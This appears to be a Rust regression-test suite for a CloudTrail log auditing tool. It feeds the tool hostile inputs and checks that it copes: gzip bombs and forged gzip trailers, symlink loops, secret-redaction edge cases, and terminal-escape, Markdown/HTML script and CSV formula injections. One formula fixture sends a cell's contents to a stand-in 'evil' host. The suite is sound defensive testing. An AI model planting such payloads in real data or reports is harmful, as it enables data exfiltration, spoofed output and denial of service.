//! The hostile-input battery (issue #10): every case an attacker-controlled
//! trail, file system or store can throw at ctaudit, each a regression test
//! named after the defect it pins, through the real binary. Where a case
//! applies to more than files, the S3 source (moto on loopback) is tried
//! too; API pages go through the same `Collector` (unit tests in
//! `ingest`).

use crate::common;

use std::io::Write;
use std::path::Path;

use common::moto::Moto;
use common::{aws_env, ctaudit, ctaudit_env, json, path_str};
use serde_json::{Value, json};

const DAY: &str = "AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/17";
const WINDOW: [&str; 6] = [
    "--since",
    "2026-11-16",
    "--until",
    "2026-11-19",
    "--now",
    "2026-11-23T00:00:00Z",
];

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// A failed web-identity call (a `failures` finding) with this user agent.
fn failed_oidc(id: &str, user_agent: &str) -> Value {
    json!({
        "eventVersion": "1.09", "eventTime": "2026-11-17T10:00:00Z", "eventID": id,
        "eventSource": "sts.amazonaws.com", "eventName": "AssumeRoleWithWebIdentity",
        "awsRegion": "us-east-1", "recipientAccountId": "111122223333",
        "sourceIPAddress": "203.0.113.9", "userAgent": user_agent,
        "errorCode": "AccessDenied", "errorMessage": "Not authorized",
        "userIdentity": {"type": "WebIdentityUser", "userName": "repo:evil/x:ref:refs/heads/main",
            "identityProvider": "arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com"},
        "requestParameters": {"roleArn": "arn:aws:iam::111122223333:role/deploy", "roleSessionName": "s"},
        "responseElements": null
    })
}

/// A call made with a long-lived key (an `iam-user-keys` finding).
fn akia_call(id: &str, user_agent: &str) -> Value {
    json!({
        "eventVersion": "1.09", "eventTime": "2026-11-17T11:00:00Z", "eventID": id,
        "eventSource": "s3.amazonaws.com", "eventName": "ListBuckets", "awsRegion": "us-east-1",
        "recipientAccountId": "111122223333", "sourceIPAddress": "203.0.113.9",
        "userAgent": user_agent,
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/mallory",
            "accountId": "111122223333", "accessKeyId": "AKIAMALLORY000000001", "userName": "mallory"}
    })
}

/// Noise: a call no report needs.
fn noise(id: &str) -> Value {
    json!({
        "eventVersion": "1.09", "eventTime": "2026-11-17T12:00:00Z", "eventID": id,
        "eventSource": "ec2.amazonaws.com", "eventName": "DescribeInstances", "awsRegion": "us-east-1",
        "userIdentity": {"type": "AssumedRole", "accessKeyId": "ASIAX"}
    })
}

fn records(events: &[Value]) -> String {
    json!({ "Records": events }).to_string()
}

fn write(dir: &Path, rel: &str, bytes: &[u8]) {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn report(args: &[&str]) -> common::Run {
    ctaudit(&[&["report", "--format", "json"][..], args].concat())
}

fn ids(doc: &Value) -> Vec<String> {
    let mut ids: Vec<String> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["event_id"].as_str().unwrap().to_string())
        .collect();
    ids.sort();
    ids.dedup();
    ids
}

/// `SELECT count(*)` over logs, through `query`.
fn query_count(logs: &str, filter: &str) -> u64 {
    let run = ctaudit(&[
        "query",
        "--logs",
        logs,
        &format!("SELECT count(*) AS n FROM events WHERE {filter}"),
        "--format",
        "json",
    ]);
    assert!(run.code == 0, "{}", run.stderr);
    json(&run)[0]["n"].as_u64().unwrap()
}

/// A lone surrogate escape in a caller-chosen string used to make `report`
/// drop the record silently and `ingest`/`query` reject the whole file.
#[test]
fn lone_surrogate_escape_hides_no_event() {
    let dir = tempfile::tempdir().unwrap();
    let text = records(&[
        failed_oidc("oidc-1", "UA-HIGH"),
        akia_call("akia-1", "UA-LOW"),
        noise("n-1"),
        noise("n-2"),
    ])
    .replace("UA-HIGH", "x\\ud800y")
    .replace("UA-LOW", "\\udc00");
    write(dir.path(), &format!("{DAY}/t.json"), text.as_bytes());
    let logs = path_str(dir.path());
    let run = report(&["--logs", logs]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.is_empty(), "{}", run.stderr);
    let doc = json(&run);
    assert_eq!(ids(&doc), ["akia-1", "oidc-1"]);
    assert_eq!(doc["input"]["strings_repaired"], 2);
    assert_eq!(doc["input"]["events_read"], 4);
    let ua: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["user_agent"].as_str())
        .collect();
    assert!(ua.contains(&"x\u{fffd}y"), "{ua:?}");
    // query and ingest read the same four events.
    assert_eq!(query_count(logs, "true"), 4);
    let store = tempfile::tempdir().unwrap();
    let ingest = ctaudit(&["ingest", "--logs", logs, "--store", path_str(store.path())]);
    assert_eq!(ingest.code, 0, "{}", ingest.stderr);
    assert!(
        ingest.stdout.contains("4 events added"),
        "{}",
        ingest.stdout
    );
    assert!(
        ingest.stdout.contains("strings repaired"),
        "{}",
        ingest.stdout
    );

    // The same from S3.
    let Some(moto) = Moto::start("lone_surrogate_escape_hides_no_event") else {
        return;
    };
    moto.put(
        "hostile",
        &[(format!("{DAY}/t.json.gz"), gzip(text.as_bytes()))],
    );
    let mut env = aws_env(&moto.url());
    env.push(("AWS_ENDPOINT_URL_S3", moto.url()));
    let s3 = ctaudit_env(
        &[
            &["report", "--format", "json", "--s3", "s3://hostile/"][..],
            &WINDOW,
        ]
        .concat(),
        &env,
    );
    assert_eq!(s3.code, 1, "{}", s3.stderr);
    assert_eq!(ids(&json(&s3)), ["akia-1", "oidc-1"]);
}

/// The substring prefilter used to skip records that spell the event name
/// or the key with JSON escapes, which the parser (and `query`) see.
#[test]
fn escaped_event_name_and_key_are_not_skimmed_away() {
    let dir = tempfile::tempdir().unwrap();
    let text = records(&[
        failed_oidc("oidc-escaped", "ua"),
        akia_call("akia-escaped", "ua"),
        noise("n-1"),
    ])
    .replace(
        "AssumeRoleWithWebIdentity",
        "AssumeRoleWith\\u0057ebIdentity",
    )
    .replace("\"AKIAMALLORY", "\"\\u0041KIAMALLORY");
    write(dir.path(), "t.json", text.as_bytes());
    let logs = path_str(dir.path());
    let run = report(&["--logs", logs]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(ids(&json(&run)), ["akia-escaped", "oidc-escaped"]);
    assert_eq!(
        query_count(logs, "event_name = 'AssumeRoleWithWebIdentity'"),
        1
    );
    assert_eq!(query_count(logs, "access_key_id LIKE 'AKIA%'"), 1);
}

/// A character that is not ASCII right before a `secret:` pair in a
/// caller-chosen string made the redactor cut a string inside it and panic
/// (4f3d534): one failed web-identity call, which needs no credentials,
/// stopped every `report`, `ingest` and `query` of the trail.
#[test]
fn text_that_is_not_ascii_beside_a_secret_pair_stops_no_run() {
    let dir = tempfile::tempdir().unwrap();
    let text = records(&[
        failed_oidc("oidc-1", "ü:secret:hunter2"),
        akia_call(
            "akia-1",
            "→arn:aws:secretsmanager:us-east-1:1:secret:prod/db",
        ),
        noise("n-1"),
    ]);
    write(dir.path(), "t.json", text.as_bytes());
    let logs = path_str(dir.path());
    let run = report(&["--logs", logs]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(ids(&json(&run)), ["akia-1", "oidc-1"]);
    assert!(!run.stdout.contains("hunter2"));
    assert!(
        run.stdout.contains("secret:prod/db"),
        "an ARN names a secret"
    );
    assert_eq!(query_count(logs, "user_agent = 'ü:REDACTED'"), 1);
    let store = dir.path().join("store");
    let ingest = ctaudit(&["ingest", "--logs", logs, "--store", path_str(&store)]);
    assert_eq!(ingest.code, 0, "{}", ingest.stderr);
}

/// A UTF-8 byte-order mark made a walked file "not a log" and a named or
/// gzipped one "not CloudTrail JSON"; UTF-16 failed the same way.
#[test]
fn bom_prefixed_and_utf16_files_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let text = |id: &str| records(&[failed_oidc(id, "ua")]);
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend_from_slice(text("bom-plain").as_bytes());
    write(dir.path(), "walked/bom.json", &bom);
    let mut bom_gz = b"\xEF\xBB\xBF".to_vec();
    bom_gz.extend_from_slice(text("bom-gzip").as_bytes());
    write(dir.path(), "walked/bom.json.gz", &gzip(&bom_gz));
    for (name, le) in [("utf16le.json", true), ("utf16be.json", false)] {
        let mut wide: Vec<u8> = if le {
            vec![0xFF, 0xFE]
        } else {
            vec![0xFE, 0xFF]
        };
        for u in text(name).encode_utf16() {
            wide.extend_from_slice(&if le { u.to_le_bytes() } else { u.to_be_bytes() });
        }
        write(dir.path(), &format!("walked/{name}"), &wide);
    }
    let run = report(&["--logs", &format!("{}/walked", path_str(dir.path()))]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let doc = json(&run);
    assert_eq!(
        ids(&doc),
        ["bom-gzip", "bom-plain", "utf16be.json", "utf16le.json"]
    );
    assert_eq!(doc["input"]["files_transcoded"], 2);
    assert!(doc["input"]["files_skipped"].get("not-a-log").is_none());
    // Named directly.
    let named = report(&[
        "--logs",
        &format!("{}/walked/bom.json", path_str(dir.path())),
    ]);
    assert_eq!(ids(&json(&named)), ["bom-plain"]);
}

/// Hidden files and folders were skipped without being counted.
#[test]
fn hidden_files_are_counted_and_read_with_hidden() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        ".hidden.json",
        records(&[failed_oidc("h1", "ua")]).as_bytes(),
    );
    write(
        dir.path(),
        ".git/x.json",
        records(&[failed_oidc("h2", "ua")]).as_bytes(),
    );
    write(
        dir.path(),
        "seen.json",
        records(&[failed_oidc("s1", "ua")]).as_bytes(),
    );
    let logs = path_str(dir.path());
    let run = report(&["--logs", logs]);
    let doc = json(&run);
    assert_eq!(ids(&doc), ["s1"]);
    assert_eq!(doc["input"]["files_skipped"]["hidden"], 2);
    let table = ctaudit(&["report", "--logs", logs]);
    assert!(
        table
            .stdout
            .contains("hidden files and folders (read with --hidden): 2"),
        "{}",
        table.stdout
    );
    let all = report(&["--logs", logs, "--hidden"]);
    assert_eq!(ids(&json(&all)), ["h1", "h2", "s1"]);
}

/// A small gzip that inflates past any sane size used to abort the whole
/// run on a failed allocation, losing every good file with it.
#[test]
fn gzip_bomb_is_too_large_and_the_run_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    // 64 MiB of white space in about 64 KiB, against a 16 MiB cap (the
    // default cap is 1 GiB; the rule is the same, the test is cheaper).
    let bomb = gzip(&vec![b' '; 64 << 20]);
    let mut multi = gzip(records(&[noise("m-1")]).as_bytes());
    multi.extend_from_slice(&bomb);
    write(dir.path(), &format!("{DAY}/bomb.json.gz"), &bomb);
    write(dir.path(), &format!("{DAY}/multi-member.json.gz"), &multi);
    write(
        dir.path(),
        &format!("{DAY}/good.json.gz"),
        &gzip(records(&[failed_oidc("good-1", "ua")]).as_bytes()),
    );
    let logs = path_str(dir.path());
    let cap = ["--max-file-size", "16M"];
    let run = report(&[&["--logs", logs][..], &cap].concat());
    assert_eq!(run.code, 2, "an input was not read: {}", run.stderr);
    let doc = json(&run);
    assert_eq!(ids(&doc), ["good-1"]);
    let failed = doc["input"]["files_failed"].as_array().unwrap();
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert!(failed.iter().all(|f| f["reason"] == "too-large"));
    assert!(
        run.stderr.contains("bomb.json.gz: too large"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("--max-file-size"), "{}", run.stderr);
    // Under ingest too.
    let store = tempfile::tempdir().unwrap();
    let ingest = ctaudit(
        &[
            &["ingest", "--logs", logs, "--store", path_str(store.path())][..],
            &cap,
        ]
        .concat(),
    );
    assert_eq!(ingest.code, 2);
    assert!(
        ingest.stdout.contains("1 events added"),
        "{}",
        ingest.stdout
    );
    // A file over the cap is not read at all, gzip or not.
    let plain = ctaudit(&["report", "--logs", logs, "--max-file-size", "100"]);
    assert!(plain.stderr.contains("too large"), "{}", plain.stderr);

    // From S3: the bomb in a day folder, and an object larger than the cap
    // as stored, which is never downloaded.
    let Some(moto) = Moto::start("gzip_bomb_is_too_large_and_the_run_goes_on") else {
        return;
    };
    moto.put(
        "bombs",
        &[
            (format!("{DAY}/bomb.json.gz"), bomb.clone()),
            (
                format!("{DAY}/good.json.gz"),
                gzip(records(&[failed_oidc("good-1", "ua")]).as_bytes()),
            ),
        ],
    );
    let mut env = aws_env(&moto.url());
    env.push(("AWS_ENDPOINT_URL_S3", moto.url()));
    let s3 = ctaudit_env(
        &[
            &["report", "--format", "json", "--s3", "s3://bombs/"][..],
            &cap,
            &WINDOW,
        ]
        .concat(),
        &env,
    );
    assert_eq!(s3.code, 2, "{}", s3.stderr);
    assert_eq!(ids(&json(&s3)), ["good-1"]);
    assert!(
        s3.stderr.contains("bomb.json.gz: too large"),
        "{}",
        s3.stderr
    );
    moto.reset_recording();
    let small_cap = ctaudit_env(
        &[
            &["report", "--format", "json", "--s3", "s3://bombs/"][..],
            &["--max-file-size", "1K"],
            &WINDOW,
        ]
        .concat(),
        &env,
    );
    assert_eq!(small_cap.code, 2);
    let fetched = moto
        .seen()
        .iter()
        .filter(|s| s.method == "GET" && s.path.ends_with("bomb.json.gz"))
        .count();
    assert_eq!(fetched, 0, "an object over the cap is not downloaded");
}

/// A 34-byte gzip whose trailer claims 4 GiB made a thread zero-fill 4 GiB
/// before inflating anything.
#[test]
fn forged_gzip_trailer_is_not_believed() {
    let dir = tempfile::tempdir().unwrap();
    let mut forged = gzip(b"{\"Records\":[]}");
    let n = forged.len();
    forged[n - 4..].copy_from_slice(&u32::MAX.to_le_bytes());
    for i in 0..4 {
        write(dir.path(), &format!("forged-{i}.json.gz"), &forged);
    }
    write(
        dir.path(),
        "good.json",
        records(&[failed_oidc("good-1", "ua")]).as_bytes(),
    );
    let run = report(&["--logs", path_str(dir.path())]);
    assert_eq!(run.code, 2);
    let doc = json(&run);
    assert_eq!(ids(&doc), ["good-1"]);
    let failed = doc["input"]["files_failed"].as_array().unwrap();
    assert_eq!(failed.len(), 4);
    assert!(
        failed.iter().all(|f| f["reason"] == "corrupt-gzip"),
        "{failed:?}"
    );
}

/// Two ingests into one store at once used to corrupt a part file, lose
/// one run's events, or store events twice.
#[test]
fn concurrent_ingests_leave_a_whole_store() {
    let store = tempfile::tempdir().unwrap();
    let s = path_str(store.path()).to_string();
    let bin = env!("CARGO_BIN_EXE_ctaudit");
    let spawn = || {
        std::process::Command::new(bin)
            .args(["ingest", "--logs", "sample-logs", "--store", &s])
            .current_dir(common::root())
            .output()
    };
    let (a, b) = std::thread::scope(|scope| {
        let a = scope.spawn(spawn);
        let b = scope.spawn(spawn);
        (a.join().unwrap().unwrap(), b.join().unwrap().unwrap())
    });
    assert!(a.status.success() && b.status.success());
    let out = |o: &std::process::Output| String::from_utf8_lossy(&o.stdout).to_string();
    let added: Vec<bool> = [&a, &b]
        .iter()
        .map(|o| out(o).contains("215 events added, 0 already stored"))
        .collect();
    assert_eq!(
        added.iter().filter(|x| **x).count(),
        1,
        "exactly one run adds the events: {} / {}",
        out(&a),
        out(&b)
    );
    let q = ctaudit(&[
        "query",
        "--store",
        &s,
        "SELECT count(*) AS n, count(DISTINCT event_id) AS d FROM events",
        "--format",
        "json",
    ]);
    assert_eq!(q.code, 0, "{}", q.stderr);
    assert_eq!(json(&q)[0], json!({"n": 215, "d": 215}));
    // --no-wait refuses while another writer holds the store.
    let lock = std::fs::File::options()
        .write(true)
        .open(store.path().join(".lock"))
        .unwrap();
    lock.lock().unwrap();
    let refused = ctaudit(&[
        "ingest",
        "--logs",
        "sample-logs",
        "--store",
        &s,
        "--no-wait",
    ]);
    assert_eq!(refused.code, 2);
    assert!(
        refused.stderr.contains("another ingest is writing to it"),
        "{}",
        refused.stderr
    );
}

/// Directory symlink loops made the walk exponential; one loop read each
/// file 41 times.
#[cfg(unix)]
#[test]
fn symlink_loops_end_and_each_file_is_read_once() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "a/t.json",
        records(&[failed_oidc("x1", "ua")]).as_bytes(),
    );
    symlink(dir.path(), dir.path().join("a/up")).unwrap();
    symlink(dir.path().join("a"), dir.path().join("a/self")).unwrap();
    symlink(dir.path().join("a"), dir.path().join("b")).unwrap();
    let logs = path_str(dir.path());
    let run = report(&["--logs", logs]);
    let doc = json(&run);
    assert_eq!(doc["input"]["files_read"], 1);
    assert_eq!(doc["input"]["files_skipped"]["symlink"], 3);
    let follow = report(&["--logs", logs, "--follow"]);
    let doc = json(&follow);
    assert_eq!(doc["input"]["files_read"], 1, "{}", follow.stdout);
    assert_eq!(doc["input"]["events_read"], 1);
    assert_eq!(doc["input"]["files_skipped"]["already-walked"], 3);
}

/// Opening a FIFO to sniff it never returned.
#[cfg(unix)]
#[test]
fn fifo_is_skipped_in_a_walk_and_never_blocks_when_named() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe.json");
    let c = std::ffi::CString::new(path_str(&fifo)).unwrap();
    // SAFETY: a valid C string and mode.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    write(
        dir.path(),
        "t.json",
        records(&[failed_oidc("x1", "ua")]).as_bytes(),
    );
    let run = report(&["--logs", path_str(dir.path())]);
    let doc = json(&run);
    assert_eq!(ids(&doc), ["x1"]);
    assert_eq!(doc["input"]["files_skipped"]["not-a-regular-file"], 1);
    // Named directly: opened without waiting for a writer; reads as empty.
    let named = report(&["--logs", path_str(&fifo)]);
    assert_eq!(named.code, 0, "{}", named.stderr);
    assert_eq!(json(&named)["input"]["files_skipped"]["empty"], 1);
}

/// A SQL cross join just under 2^32 rows aborted on allocation.
#[test]
fn cross_join_near_2_32_rows_is_refused() {
    let run = ctaudit(&[
        "query",
        "--logs",
        "sample-logs",
        "SELECT count(*) FROM events a, events b, events c, events d",
    ]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("CROSS JOIN would make") && run.stderr.contains("--max-join-rows"),
        "{}",
        run.stderr
    );
}

/// Secrets reached the store and `query` output when nested deep, escaped,
/// spelled otherwise, inside strings, or as name/value pairs.
#[test]
fn secrets_never_reach_the_store_or_query_output() {
    let mut deep =
        json!({"credentials": {"accessKeyId": "ASIAKEPT", "sessionToken": "S-DEEP-130"}});
    for _ in 0..130 {
        deep = json!({ "a": deep });
    }
    let spellings = [
        "session_token",
        "secret_access_key",
        "AWS_SECRET_ACCESS_KEY",
        "private_key",
        "client_secret",
        "x-amz-security-token",
        "token",
        "accessToken",
        "idToken",
        "refreshToken",
        "webIdentityToken",
        "secret",
        "secretString",
        "SecretBinary",
        "apiKey",
    ];
    let mut by_key = serde_json::Map::new();
    for (i, k) in spellings.iter().enumerate() {
        by_key.insert(k.to_string(), json!(format!("S-KEY-{i}")));
    }
    by_key.insert("credentials".into(), json!("S-CREDS-STRING"));
    let payloads = [
        deep,
        Value::Object(by_key),
        json!({"nested": json!({"password": "S-NESTED-ONCE"}).to_string()}),
        json!({"twice": json!({"x": json!({"clientSecret": "S-TWICE"}).to_string()}).to_string()}),
        json!({"certificate": "-----BEGIN RSA PRIVATE KEY-----\nS-PEM-BODY\n-----END RSA PRIVATE KEY-----"}),
        json!({"environment": [{"name": "DB_PASSWORD", "value": "S-PAIR-NAME"},
                                {"key": "password", "value": "S-PAIR-KEY"}]}),
    ];
    let mut events: Vec<Value> = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let mut e = noise(&format!("p{i}"));
            e["requestParameters"] = p.clone();
            e
        })
        .collect();
    let mut escaped = noise("escaped");
    escaped["requestParameters"] = json!({"PLACEHOLDER": "S-ESCAPED-KEY"});
    events.push(escaped);
    let mut message = noise("message");
    message["errorMessage"] = json!("token IQoJb3JpZ2luX2VjS0ERRMSG0123456789 rejected");
    events.push(message);
    let text = records(&events).replace("PLACEHOLDER", "pass\\u0077ord");
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "t.json", text.as_bytes());
    let logs = path_str(dir.path());
    let store = tempfile::tempdir().unwrap();
    let ingest = ctaudit(&["ingest", "--logs", logs, "--store", path_str(store.path())]);
    assert_eq!(ingest.code, 0, "{}", ingest.stderr);
    let everything = "SELECT * FROM events";
    for source in [["--store", path_str(store.path())], ["--logs", logs]] {
        for format in ["json", "csv", "table"] {
            let q = ctaudit(&[
                "query", source[0], source[1], everything, "--format", format,
            ]);
            assert_eq!(q.code, 0, "{}", q.stderr);
            assert!(!q.stdout.contains("S-"), "{format}: {}", q.stdout);
            assert!(!q.stdout.contains("IQoJb3JpZ2lu"), "{}", q.stdout);
            assert!(q.stdout.contains("REDACTED") && q.stdout.contains("ASIAKEPT"));
        }
    }
}

/// Terminal escapes in a user agent cleared the screen and retitled the
/// window; a file name on stderr forged a `ctaudit:` line.
#[test]
fn terminal_escapes_are_shown_not_run() {
    let dir = tempfile::tempdir().unwrap();
    let ua = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://x\x1b\\link\rctaudit: all clear\u{9b}1A";
    write(
        dir.path(),
        "t.json",
        records(&[akia_call("a1", ua)]).as_bytes(),
    );
    write(
        dir.path(),
        "bad\rctaudit: forged\x1b[1A.json",
        b"{\"Records\":[{",
    );
    for args in [vec![], vec!["--format", "markdown"]] {
        let run = ctaudit(&[&["report", "--logs", path_str(dir.path())][..], &args].concat());
        for (name, out) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
            assert!(
                !out.chars().any(|c| c.is_control() && c != '\n'),
                "{name} carries a control character: {out:?}"
            );
        }
        assert!(run.stdout.contains("x1b[2J") || run.stdout.contains("x1b\\[2J"));
        assert!(
            run.stderr.contains("bad\\rctaudit: forged\\x1b[1A.json"),
            "{}",
            run.stderr
        );
    }
}

/// Only `|` and newlines were escaped in Markdown: a CR ended the table,
/// and raw HTML, images and comments passed into tickets.
#[test]
fn markdown_cells_are_literal_text() {
    let dir = tempfile::tempdir().unwrap();
    let ua = "x\r# All clear\r![p](http://evil/p.png) <!-- <script>alert(1)</script> <img src=x onerror=alert(1)> **bold** | `code` @team #1";
    write(
        dir.path(),
        "t.json",
        records(&[akia_call("a1", ua)]).as_bytes(),
    );
    let run = ctaudit(&[
        "report",
        "--logs",
        path_str(dir.path()),
        "--format",
        "markdown",
    ]);
    let md = &run.stdout;
    assert!(!md.contains('\r'));
    for live in [
        "<!--", "<script", "<img", "![", "**bold**", "`code`", " @team", " #1",
    ] {
        assert!(!md.contains(live), "{live} is live in:\n{md}");
    }
    // The finding's row (the summary's key table names mallory too).
    let row = md
        .lines()
        .find(|l| l.contains("mallory") && l.starts_with("| high"))
        .unwrap();
    // The cell stays in its column: every | of the user agent is escaped.
    let cells = row.replace("\\|", "").matches('|').count();
    let header = md.lines().find(|l| l.starts_with("| severity")).unwrap();
    assert_eq!(cells, header.matches('|').count(), "{row}");
}

/// CSV cells starting with `=`, `+`, `-`, `@`, TAB or CR were written as
/// they are: a spreadsheet runs them.
#[test]
fn csv_formulas_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let ua = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
    write(
        dir.path(),
        "t.json",
        records(&[akia_call("a1", ua)]).as_bytes(),
    );
    let logs = path_str(dir.path());
    let run = ctaudit(&["report", "--logs", logs, "--format", "csv"]);
    let mut rows = csv::Reader::from_reader(run.stdout.as_bytes());
    let headers = rows.headers().unwrap().clone();
    let col = headers.iter().position(|h| h == "user_agent").unwrap();
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[col], format!("'{ua}"));
    let raw = ctaudit(&["report", "--logs", logs, "--format", "csv", "--csv-raw"]);
    assert!(raw.stdout.contains("\"=HYPERLINK("), "{}", raw.stdout);
    for (sql, want) in [
        ("SELECT user_agent FROM events", format!("'{ua}")),
        ("SELECT '+1' AS a FROM events", "'+1".to_string()),
        ("SELECT '@x' AS a FROM events", "'@x".to_string()),
        ("SELECT -5 AS a FROM events", "-5".to_string()),
    ] {
        let q = ctaudit(&["query", "--logs", logs, sql, "--format", "csv"]);
        let mut rows = csv::Reader::from_reader(q.stdout.as_bytes());
        let got = rows.records().next().unwrap().unwrap()[0].to_string();
        assert_eq!(got, want, "{sql}");
    }
}
